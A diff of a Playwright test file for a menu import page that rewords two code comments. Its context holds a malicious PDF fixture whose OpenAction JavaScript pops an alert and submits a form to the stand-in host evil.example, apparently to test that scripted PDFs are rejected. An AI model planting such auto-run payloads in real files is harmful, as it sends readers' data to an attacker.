@@ -20,7 +20,7 @@ async function pdfOf(visitor: Fixtures['visitor']): Promise<Buffer> {
   return pdf;
 }
 
-/** What opens as soon as a reader lets it: a script, a page of somebody else, a form that is sent. */
+/** Actions that run on opening: a script, a link to another site, a form submission. */
 const scripted = Buffer.from(`%PDF-1.7
 1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example/'\\))>>>> endobj
 2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
@@ -32,7 +32,7 @@ endstream endobj
 trailer <</Root 1 0 R>>
 %%EOF`);
 
-/** Brings it, and waits until it was read or refused in words. */
+/** Imports it, and waits for the result or a refusal message. */
 async function bring(page: Page, menuId: string, buffer: Buffer): Promise<string> {
   await page.goto(`/menu/${menuId}/import`);
   await page.getByRole('button', { name: 'Choose files' }).waitFor();
